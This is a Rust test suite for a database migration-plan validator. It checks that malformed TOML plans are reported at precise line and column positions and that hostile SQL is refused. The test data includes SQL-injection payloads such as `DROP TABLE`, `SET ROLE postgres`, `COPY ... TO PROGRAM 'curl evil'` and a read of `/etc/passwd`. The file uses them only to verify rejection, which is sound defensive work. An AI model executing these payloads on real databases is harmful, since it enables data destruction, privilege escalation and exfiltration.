//! Plan loading: the example plans are valid; each broken plan is reported at its line:col.

use cutover::plan::{Phase, Plan, PlanError};

#[test]
fn example_plans_load() {
    for entry in std::fs::read_dir("plans").expect("plans/ exists") {
        let path = entry.expect("dir entry").path();
        let plan = Plan::load(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        assert!(!plan.sha256().is_empty());
        assert!(
            plan.phase(Phase::Contract).irreversible,
            "{}",
            path.display()
        );
        for phase in [Phase::Expand, Phase::DualWrite] {
            assert!(
                plan.phase(phase).reversible(),
                "{}: {phase}",
                path.display()
            );
        }
    }
}

/// Each broken plan with the `line:col` and a fragment of the message it must produce.
const BROKEN: &[(&str, &str, &str)] = &[
    ("bad_toml.toml", "5:32", "invalid basic string"),
    ("unknown_key.toml", "79:1", "unknown field `workrs`"),
    (
        "wrong_type.toml",
        "78:11",
        "invalid type: string \"two\", expected u32",
    ),
    (
        "dangling_check.toml",
        "132:29",
        "unknown check `balance-drfit`",
    ),
    (
        "missing_rollback.toml",
        "34:9",
        "phase `dual_write` has no rollback",
    ),
    (
        "unknown_role.toml",
        "139:21",
        "role `dba`, which is not in the roster",
    ),
    (
        "bad_duration.toml",
        "77:21",
        "invalid duration `300 parsecs`",
    ),
    (
        "unknown_check_kind.toml",
        "109:1",
        "unknown variant `invariants`",
    ),
    ("bad_window.toml", "27:15", "invalid time `25:00`"),
];

#[test]
fn broken_plans_report_line_and_column() {
    for (file, at, fragment) in BROKEN {
        let path = format!("tests/plans/broken/{file}");
        let err = Plan::load(&path).expect_err(file);
        let PlanError::Invalid(diags) = &err else {
            panic!("{file}: unexpected error {err}");
        };
        let text = err.to_string();
        let expected = format!("{path}:{at}: ");
        assert!(
            diags
                .iter()
                .any(|d| d.to_string().starts_with(&expected) && d.message.contains(fragment)),
            "{file}: expected `{expected}…{fragment}`, got:\n{text}"
        );
    }
}

#[test]
fn broken_plans_fail_the_cli_with_their_location() {
    for (file, at, _) in BROKEN {
        let path = format!("tests/plans/broken/{file}");
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_cutover"))
            .args(["validate", "--offline", &path])
            .output()
            .expect("run cutover");
        assert_eq!(out.status.code(), Some(2), "{file}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains(&format!("{path}:{at}: ")),
            "{file}: {stderr}"
        );
    }
}

#[test]
fn every_semantic_error_is_reported_not_just_the_first() {
    let src = std::fs::read_to_string("plans/accounts-balance-cents.toml").expect("demo plan");
    let broken = src
        .replace(
            "signoffs = [\"lead\", \"sre\"]",
            "signoffs = [\"lead\", \"dba\"]",
        )
        .replace("\"no-negative-balance\"]", "\"no-such-check\"]")
        .replace("workers = 1", "workers = 0");
    let Err(PlanError::Invalid(diags)) = Plan::parse("x.toml", &broken) else {
        panic!("expected errors");
    };
    assert_eq!(diags.len(), 3, "{diags:#?}");
}

#[test]
fn validate_help_explains_itself() {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_cutover"))
        .args(["validate", "--help"])
        .output()
        .expect("run cutover");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("file:line:col"), "{text}");
}

const DEMO_PLAN: &str = "plans/accounts-balance-cents.toml";

/// The demo plan with each `(from, to)` edit applied once.
fn demo_with(edits: &[(&str, &str)]) -> String {
    let mut source = std::fs::read_to_string(DEMO_PLAN).expect("demo plan");
    for (from, to) in edits {
        assert!(source.contains(from), "demo plan has no `{from}`");
        source = source.replacen(from, to, 1);
    }
    source
}

/// The byte offset of a diagnostic's line and (character) column in `source`.
fn offset_of(source: &str, d: &cutover::plan::Diagnostic) -> usize {
    let line_start: usize = source
        .split_inclusive('\n')
        .take(d.line - 1)
        .map(str::len)
        .sum();
    let rest = &source[line_start..];
    line_start
        + rest
            .char_indices()
            .nth(d.col - 1)
            .map_or(rest.len(), |(i, _)| i)
}

fn diagnostics(source: &str) -> Vec<cutover::plan::Diagnostic> {
    match Plan::parse("hostile.toml", source) {
        Err(PlanError::Invalid(d)) => d,
        Err(other) => panic!("unexpected error: {other}"),
        Ok(_) => panic!("the plan was accepted"),
    }
}

/// Asserts that some diagnostic whose message contains `fragment` points exactly at `needle`
/// (the only occurrence of it in `source`).
#[track_caller]
fn points_at(source: &str, diags: &[cutover::plan::Diagnostic], needle: &str, fragment: &str) {
    assert_eq!(
        source.matches(needle).count(),
        1,
        "needle `{needle}` must be unique"
    );
    let at = source.find(needle).unwrap_or(0);
    let all: Vec<String> = diags.iter().map(ToString::to_string).collect();
    assert!(
        diags
            .iter()
            .any(|d| d.message.contains(fragment) && offset_of(source, d) == at),
        "no diagnostic `…{fragment}…` at `{needle}` (line {}); got:\n{}",
        source[..at].matches('\n').count() + 1,
        all.join("\n")
    );
}

/// Every SQL field that could carry an escape, all hostile at once: each is refused, in one
/// run, at the exact character inside its (basic, literal or multi-line) TOML string.
#[test]
fn hostile_sql_in_every_field_is_refused_at_its_place_in_one_run() {
    let source = demo_with(&[
        (
            "apply = \"ALTER TABLE public.accounts ADD COLUMN balance_cents bigint;\"",
            "apply = \"ALTER TABLE \\\"public\\\".accounts ADD COLUMN balance_cents bigint;\\tCOMMIT; DROP TABLE canary;\"",
        ),
        ("    RETURN NEW;\nEND\n$$;\n", "    RETURN NEW;\nEND\n$$;\nEND;\n"),
        (
            "rollback = \"ALTER TABLE public.accounts DROP COLUMN balance_cents;\"",
            "rollback = '''\nSET ROLE postgres;\n\\connect other\n'''",
        ),
        (
            "ALTER TABLE public.accounts DROP COLUMN balance;\n\"\"\"",
            "ALTER TABLE public.accounts DROP COLUMN balance;\nDO $$ BEGIN PERFORM 1; ROLLBACK; END $$;\nCOPY public.accounts TO PROGRAM 'curl evil';\nRESET ALL;\n\"\"\"",
        ),
        (
            "pending = \"balance_cents IS NULL\"",
            "pending = \"balance_cents IS NULL; COMMIT; DROP TABLE canary; --\"",
        ),
        (
            "set = { balance_cents = \"round(balance * 100)::bigint\" }",
            "set = { balance_cents = \"round(balance * 100)::bigint) FROM canary; --\" }",
        ),
        (
            "pause_on_vacuum = true",
            "pause_on_vacuum = true\ncustom_query = \"SELECT 1; ROLLBACK PREPARED 'x'\"",
        ),
        (
            "expression = \"round(balance * 100)::bigint\"",
            "expression = \"round(balance * 100)::bigint /* ) OR (true */ ) OR (true\"",
        ),
        (
            "sql = \"SELECT count(*) FROM public.accounts WHERE balance_cents < 0\"",
            "sql = \"SELECT count(*) FROM public.accounts WHERE balance_cents < 0; SAVEPOINT sp\"",
        ),
        (
            "query = \"SELECT count(*) FROM public.accounts WHERE created_at < '2026-01-01'\"",
            "query = \"SELECT count(*) FROM public.accounts; DROP TABLE canary\"",
        ),
        (
            "sql = \"SELECT id, owner, balance FROM public.accounts WHERE id = $1\"",
            "sql = \"SELECT id, owner, balance FROM public.accounts WHERE id = $1; START TRANSACTION\"",
        ),
        (
            "max_deadlocks = 0",
            "max_deadlocks = 0\nmetric_query = \"COPY public.accounts FROM '/etc/passwd'\"",
        ),
    ]);
    let diags = diagnostics(&source);
    points_at(
        &source,
        &diags,
        "COMMIT; DROP TABLE canary;\"",
        "transaction control",
    );
    points_at(
        &source,
        &diags,
        "END;\nCREATE TRIGGER",
        "transaction control",
    );
    points_at(&source, &diags, "SET ROLE postgres", "role");
    points_at(&source, &diags, "\\connect other", "meta-command");
    points_at(&source, &diags, "ROLLBACK; END $$", "DO block");
    points_at(
        &source,
        &diags,
        "COPY public.accounts TO PROGRAM",
        "shell command",
    );
    points_at(&source, &diags, "RESET ALL", "Cutover's");
    points_at(&source, &diags, "; COMMIT; DROP TABLE canary; --", "`;`");
    points_at(&source, &diags, ") FROM canary", "closes a parenthesis");
    points_at(&source, &diags, "ROLLBACK PREPARED", "transaction control");
    points_at(&source, &diags, ") OR (true\"", "closes a parenthesis");
    points_at(&source, &diags, "SAVEPOINT sp", "transaction control");
    points_at(&source, &diags, "DROP TABLE canary\"", "only one statement");
    points_at(&source, &diags, "START TRANSACTION", "transaction control");
    points_at(&source, &diags, "COPY public.accounts FROM", "server file");
    for d in &diags {
        assert!(d.to_string().starts_with("hostile.toml:"), "{d}");
        assert!(d.to_string().contains(": error: "), "{d}");
    }
}

/// Structural problems are all reported in one run, each at its own element.
#[test]
fn structural_errors_are_all_reported_at_their_element() {
    let source = demo_with(&[
        ("expect = 0", "expect = \"zero\""),
        ("old = \"balance * 100\"\n", ""),
        (
            "table = \"public.accounts\"\nkey = [\"id\"]\nset",
            "key = [\"id\"]\nset",
        ),
        ("pending = \"balance_cents IS NULL\"\n", ""),
        ("title = ", "titel = "),
        ("max_lock_waiters = 8", "max_lock_waiters = -1"),
        ("params = [\"1\"]", "params = [1]"),
    ]);
    let diags = diagnostics(&source);
    points_at(
        &source,
        &diags,
        "\"zero\"",
        "check `no-negative-balance`: invalid type",
    );
    points_at(&source, &diags, "\"null_drift\"", "missing field `old`");
    points_at(&source, &diags, "[backfill]\n", "missing field `table`");
    points_at(&source, &diags, "[backfill]\n", "missing field `pending`");
    points_at(&source, &diags, "titel", "unknown field `titel`");
    points_at(&source, &diags, "-1", "invalid value");
    points_at(&source, &diags, "1]", "invalid type");
    let missing_title = diags
        .iter()
        .any(|d| d.message.contains("missing field `title`"));
    assert!(missing_title, "{diags:#?}");
}

/// Durations past PostgreSQL's INT_MAX milliseconds, non-finite or out-of-range numbers,
/// inverted bounds and control characters in names: all in one run.
#[test]
fn limits_numbers_and_names_are_checked_in_one_run() {
    let source = demo_with(&[
        (
            "statement_timeout = \"60s\"",
            "statement_timeout = \"999999999999h\"",
        ),
        ("lock_timeout = \"2s\"", "lock_timeout = \"25d\""),
        ("max_latency_ratio = 1.2", "max_latency_ratio = nan"),
        (
            "max_rollback_increase_pp = 0.5",
            "max_rollback_increase_pp = -0.5",
        ),
        ("expect = 0", "min = 5.0\nmax = 1.0"),
        (
            "pause_on_vacuum = true",
            "pause_on_vacuum = true\nmax_wal_mib_per_second = inf",
        ),
        (
            "flag = \"accounts.read_balance_cents\"",
            "flag = \"accounts.\\u0007bell\"",
        ),
        ("key = [\"id\"]\nset", "key = [\"\"]\nset"),
        (
            "[[checks]]\nname = \"balance-parity\"",
            "[[checks]]\nname = \"balance-parity\"\ntimeout = \"0s\"",
        ),
    ]);
    let diags = diagnostics(&source);
    points_at(&source, &diags, "\"999999999999h\"", "too long");
    points_at(&source, &diags, "\"25d\"", "too long");
    points_at(&source, &diags, "nan", "finite");
    points_at(&source, &diags, "-0.5", "between 0 and 100");
    points_at(&source, &diags, "5.0\nmax = 1.0", "greater than `max`");
    points_at(&source, &diags, "inf", "finite");
    points_at(&source, &diags, "\\u0007bell", "control character");
    points_at(&source, &diags, "\"\"]\nset", "must not be empty");
    points_at(&source, &diags, "\"0s\"", "greater than zero");
}

fn validate_cli(path: &std::path::Path) -> (Option<i32>, String, std::time::Duration) {
    let started = std::time::Instant::now();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_cutover"))
        .arg("validate")
        .arg("--offline")
        .arg(path)
        .output()
        .expect("run cutover");
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stderr).to_string(),
        started.elapsed(),
    )
}

/// Directories, devices, FIFOs, oversized files and invalid UTF-8 are refused promptly with
/// exit 2 and a located `error:` line.
#[test]
fn unreadable_plan_files_are_refused_promptly() {
    let dir = tempfile::tempdir().expect("tempdir");
    let fifo = dir.path().join("plan.fifo");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .expect("mkfifo");
    assert!(made.success());
    let big = dir.path().join("big.toml");
    std::fs::File::create(&big)
        .and_then(|f| f.set_len(cutover::plan::MAX_PLAN_BYTES + 1))
        .expect("sparse file");
    let latin1 = dir.path().join("latin1.toml");
    std::fs::write(&latin1, b"id = \"x\"\n# caf\xe9\n").expect("write");
    for (path, fragment) in [
        (dir.path().to_path_buf(), "a directory"),
        (std::path::PathBuf::from("/dev/zero"), "a device"),
        (fifo, "a FIFO"),
        (big, "larger than"),
        (latin1.clone(), "invalid UTF-8"),
    ] {
        let (code, stderr, took) = validate_cli(&path);
        assert_eq!(code, Some(2), "{}: {stderr}", path.display());
        assert!(stderr.contains(fragment), "{}: {stderr}", path.display());
        assert!(stderr.contains(": error: "), "{stderr}");
        assert!(took < std::time::Duration::from_secs(5), "{took:?}");
    }
    let (_, stderr, _) = validate_cli(&latin1);
    assert!(
        stderr.contains("latin1.toml:2:6: error: invalid UTF-8"),
        "{stderr}"
    );
}
